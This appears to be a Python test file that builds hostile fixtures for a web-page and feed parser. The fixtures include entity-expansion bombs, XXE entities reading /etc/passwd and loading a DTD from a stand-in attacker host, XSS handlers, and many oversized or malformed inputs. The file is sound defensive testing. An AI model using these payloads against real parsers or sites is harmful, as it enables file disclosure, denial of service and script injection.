"""Entities, documents types and fields: bombs in HTML, XML and feeds, files that a parser would be made to open."""

from bench.hostile.shapes import MB, MORE, REPORT, Case, Cases, Fails, Reads, article, numbered, page, repeated

LEVELS = 12
LAUGHS = "<!DOCTYPE x [<!ENTITY l0 'lol'>" + numbered(lambda n: f"<!ENTITY l{n + 1} '{f'&l{n};' * 10}'>", LEVELS) + "]>"
OPENS = "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://attack.example/x.dtd'>%p;]>"
ITEM = "<item><title>Twelve killed in Tarsa</title><link>https://news.example/{n}</link><description>{words}</description></item>"
LIVE = "<div class='live-blog{n}'><article class='e{m}'><time datetime='2024-06-02T10:00:00Z'>10</time><p>{words}</p></article></div>"
SCRIPT = '<script type="application/ld+json">{}</script>'


def feed(items: str, head: str = "") -> bytes:
    """A feed with these items."""
    return f"<?xml version='1.0'?>{head}<rss version='2.0'><channel><title>The Ilmar Daily</title>{items}</channel></rss>".encode()


def item(words: str, number: int = 1) -> str:
    """An item of a feed."""
    return ITEM.format(n=number, words=words)


def atom(words: str) -> bytes:
    """A feed of the other kind, its words as markup inside markup."""
    entry = f"<entry><title>Twelve killed</title><content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>{words}</div></content></entry>"
    return f"<feed xmlns='http://www.w3.org/2005/Atom'><title>Ilmar Daily</title>{entry}</feed>".encode()


def quadratic() -> bytes:
    """One long entity, used a thousand times."""
    entity = f"<!DOCTYPE x [<!ENTITY a '{repeated('lol ', 100_000)}'>]>"
    return feed(item(REPORT + "&a;" * 1000), entity)


def microdata(count: int) -> str:
    """Items of microdata, each inside the one before."""
    return "<div itemscope itemtype='https://schema.example/Article'>" * count + f"<h1>{REPORT}</h1>" + "<b itemprop='x'>y</b>" * 20_000


def cases() -> Cases:
    """The cases."""
    body = article("<p>&l12; &x;</p>")
    nested = article("<p>The road is closed.</p>")
    return (
        Case("laughs.html", "entity bomb in an XHTML page", lambda: LAUGHS.encode() + page(body), Reads(lacks="lollol")),
        Case("xxe.html", "an entity that would open a file, in a page", lambda: OPENS.encode() + page(body)),
        Case("xxe.xhtml", "the same, as XML", lambda: b"<?xml version='1.0'?>" + OPENS.encode() + page(article("<p>&x;</p>"))),
        Case("laughs.rss", "entity bomb in a feed", lambda: feed(item(REPORT + " &l12;"), LAUGHS), Reads(lacks="lollol")),
        Case("xxe.rss", "an entity that would open a file, in a feed", lambda: feed(item(REPORT + " &x;"), OPENS)),
        Case("quadratic.rss", "one long entity used a thousand times", quadratic, Reads(lacks="lol lol lol")),
        Case(
            "dtd.rss",
            "a feed whose document type stands on the network",
            lambda: feed(item(REPORT), "<!DOCTYPE rss SYSTEM 'http://attack.example/x.dtd'>"),
        ),
        Case(
            "items.rss",
            "a feed of 100,000 items",
            lambda: feed(numbered(lambda n: item(REPORT, n), 100_000)),
            Fails(("OutOfBounds",)),
            heavy=True,
        ),
        Case(
            "deep.atom", "a feed whose item nests 50,000 elements", lambda: atom("<div>" * 50_000 + REPORT + "</div>" * 50_000), heavy=True
        ),
        Case("twice.rss", "markup escaped a hundred times over", lambda: feed(item("&amp;" * 1 + "amp;" * 100 + "lt;script>" + REPORT))),
        Case("brackets.html", "JSON-LD of 200,000 brackets", lambda: page(nested, SCRIPT.format("[" * 200_000))),
        Case(
            "graph.html",
            "JSON-LD of 20 MB",
            lambda: page(nested, SCRIPT.format("[" + '{"@type":"Article","headline":"x"},' * (20 * MB // 35) + "1]")),
            heavy=True,
        ),
        Case(
            "surrogates.html",
            "half a character by escape in JSON-LD and as an entity",
            lambda: page(
                article("<p>&#xD800; &#xDFFF;</p>"),
                SCRIPT.format('{"@type":"NewsArticle","headline":"Twelve killed \\ud800 in Tarsa","author":{"name":"A \\udfff Dren"}}'),
            ),
        ),
        Case(
            "types.html",
            "JSON-LD of wrong types everywhere",
            lambda: page(
                nested,
                SCRIPT.format(
                    '{"@type":["NewsArticle",1],"headline":["x"],"author":[[1,{"name":{"a":1}}]],"datePublished":20240602,"publisher":[3],"mainEntityOfPage":[{}],"articleSection":{},"liveBlogUpdate":[1,"x",{"articleBody":7}]}'
                ),
            ),
        ),
        Case(
            "dates.html",
            "dates that no calendar has",
            lambda: page(
                nested,
                "<meta property='article:published_time' content='9999-99-99T99:99:99+99:99'><meta name='date' content='0000-00-00'>",
            ),
        ),
        Case("title.html", "a title of 5 MB", lambda: page(nested, f"<meta property='og:title' content='{'a' * 5 * MB}'>"), heavy=True),
        Case("metas.html", "300,000 meta elements", lambda: page(nested, "<meta name='date' content='x'>" * 300_000), heavy=True),
        Case(
            "microdata.html",
            "200 items of microdata in each other, 20,000 properties inside",
            lambda: page(nested + microdata(200)),
            heavy=True,
        ),
        Case("entities.html", "400,000 numeric entities", lambda: page(nested + "<p>" + "&#x41;" * 400_000), Reads(note=None), heavy=True),
        Case("entity.html", "an entity of a million digits", lambda: page(article("<p>&#" + "9" * 1_000_000 + ";</p>")), heavy=True),
        Case("cdata.html", "a million beginnings of CDATA", lambda: page(nested + "<![CDATA[" * 1_000_000), heavy=True),
        Case(
            "live.html",
            "a live page of 30,000 entries",
            lambda: page(
                "<div class='live-blog'>"
                + f"<article class='e'><time datetime='2024-06-02T10:00:00Z'>10</time><h2>Shells</h2><p>{REPORT}</p></article>" * 30_000
            ),
            Fails(("TooLarge",)),
            heavy=True,
        ),
        Case(
            "lives.html",
            "a live page of 3,000 entries, each of a class of its own",
            lambda: page(
                numbered(
                    lambda n: LIVE.format(n=n, m=n % 999, words=REPORT),
                    3_000,
                )
            ),
            Reads(most=1_000),
            heavy=True,
        ),
        Case(
            "instructions.html",
            "a page of processing instructions and declarations",
            lambda: page(("<?x y?><!X y>" * 300_000) + article()),
            heavy=True,
        ),
        Case(
            "more.html",
            "script, style and handlers around the report",
            lambda: page(f"<script>alert('{MORE}')</script>" + article("<img src=x onerror=alert(1)>")),
            Reads(lacks="alert("),
        ),
    )
